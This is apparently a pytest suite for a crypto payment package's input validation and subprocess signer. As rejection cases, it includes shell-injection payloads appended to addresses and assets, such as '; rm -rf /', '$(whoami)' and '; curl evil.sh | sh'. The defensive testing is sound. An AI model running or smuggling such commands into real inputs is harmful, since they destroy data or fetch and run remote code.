"""Tests for input validation and the subprocess signer."""

import asyncio
import json
import sys

import pytest

from autopay.errors import InvalidPaymentParameter, PaymentExecutionFailed
from autopay.signer import Signer, SubprocessSigner
from autopay.validation import (
    contains_shell_metacharacters,
    is_valid_signature,
    validate_address,
    validate_amount,
    validate_asset,
)


R1 = "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin"
MINT = "4zMMC9srt5Ri5X14GAgXhaHii3GnPAEERYPJgZJDncDU"
SIG = "5" * 44 + "K" * 44


def _python_signer(script: str, *extra: str) -> SubprocessSigner:
    return SubprocessSigner([sys.executable, "-c", script, *extra], timeout=30)


class TestValidation:
    @pytest.mark.parametrize(
        "value",
        [
            R1 + "; rm -rf /",
            "$(whoami)",
            "`id`",
            R1 + " " + R1,
            "0x742d35Cc6634C0532925a3b844Bc9e7595f2bD18",
            "",
            None,
            R1[:20],
        ],
    )
    def test_bad_addresses_rejected(self, value):
        with pytest.raises(InvalidPaymentParameter) as exc:
            validate_address(value)
        assert exc.value.field == "recipient"
        assert str(exc.value).startswith("Invalid recipient:")

    def test_shell_metacharacters_detected(self):
        assert contains_shell_metacharacters("a|b")
        assert contains_shell_metacharacters("a\nb")
        assert not contains_shell_metacharacters(R1)

    @pytest.mark.parametrize("value", ["SOL", "sol", "native"])
    def test_native_asset_normalized(self, value):
        assert validate_asset(value) == "SOL"

    def test_mint_asset(self):
        assert validate_asset(MINT) == MINT
        with pytest.raises(InvalidPaymentParameter, match="asset"):
            validate_asset("USDC;ls")

    @pytest.mark.parametrize("value", [1, "250000", 250000.0])
    def test_amounts_accepted(self, value):
        assert validate_amount(value) > 0

    @pytest.mark.parametrize("value", [0, -5, "0.5", "NaN", "inf", "abc", True])
    def test_amounts_rejected(self, value):
        with pytest.raises(InvalidPaymentParameter):
            validate_amount(value)

    def test_signature_format(self):
        assert is_valid_signature(SIG)
        assert not is_valid_signature("tx-123")
        assert not is_valid_signature("0" * 88)
        assert not is_valid_signature(None)


class TestSubprocessSigner:
    def test_is_a_signer(self):
        assert isinstance(_python_signer("pass"), Signer)

    def test_empty_command_rejected(self):
        with pytest.raises(ValueError):
            SubprocessSigner([])

    def test_arguments_passed_as_discrete_argv(self, tmp_path):
        out = tmp_path / "argv.json"
        script = (
            "import json, sys\n"
            "open(sys.argv[1], 'w').write(json.dumps(sys.argv[2:]))\n"
            f"print('submitting...')\nprint('{SIG}')\n"
        )
        signer = _python_signer(script, str(out))

        signature = asyncio.run(signer.submit(R1, 250000, MINT))

        assert signature == SIG
        assert json.loads(out.read_text()) == [R1, "250000", MINT]

    def test_native_asset_passed_as_symbol(self, tmp_path):
        out = tmp_path / "argv.json"
        script = (
            "import json, sys\n"
            "open(sys.argv[1], 'w').write(json.dumps(sys.argv[2:]))\n"
            f"print('{SIG}')\n"
        )
        asyncio.run(_python_signer(script, str(out)).submit(R1, 5000, "native"))
        assert json.loads(out.read_text())[-1] == "SOL"

    def test_nonzero_exit_carries_diagnostics(self):
        script = "import sys\nsys.stderr.write('insufficient funds')\nsys.exit(3)\n"
        with pytest.raises(PaymentExecutionFailed) as exc:
            asyncio.run(_python_signer(script).submit(R1, 1, "SOL"))
        assert "status 3" in str(exc.value)
        assert exc.value.diagnostics == "insufficient funds"

    def test_spawn_failure(self, tmp_path):
        signer = SubprocessSigner([str(tmp_path / "no-such-signer")])
        with pytest.raises(PaymentExecutionFailed, match="Failed to start signer"):
            asyncio.run(signer.submit(R1, 1, "SOL"))

    def test_output_without_signature(self):
        with pytest.raises(PaymentExecutionFailed, match="did not return"):
            asyncio.run(_python_signer("print('done')").submit(R1, 1, "SOL"))

    def test_timeout_kills_process(self):
        signer = SubprocessSigner([sys.executable, "-c", "import time; time.sleep(30)"], timeout=0.5)
        with pytest.raises(PaymentExecutionFailed, match="timed out"):
            asyncio.run(signer.submit(R1, 1, "SOL"))

    def test_injection_rejected_before_spawn(self, monkeypatch):
        async def _no_spawn(*args, **kwargs):
            raise AssertionError("signer process must not be started")

        monkeypatch.setattr("autopay.signer.asyncio.create_subprocess_exec", _no_spawn)
        signer = _python_signer("pass")
        with pytest.raises(InvalidPaymentParameter):
            asyncio.run(signer.submit(R1 + "; curl evil.sh | sh", 1, "SOL"))
        with pytest.raises(InvalidPaymentParameter):
            asyncio.run(signer.submit(R1, 1, "$(id)"))
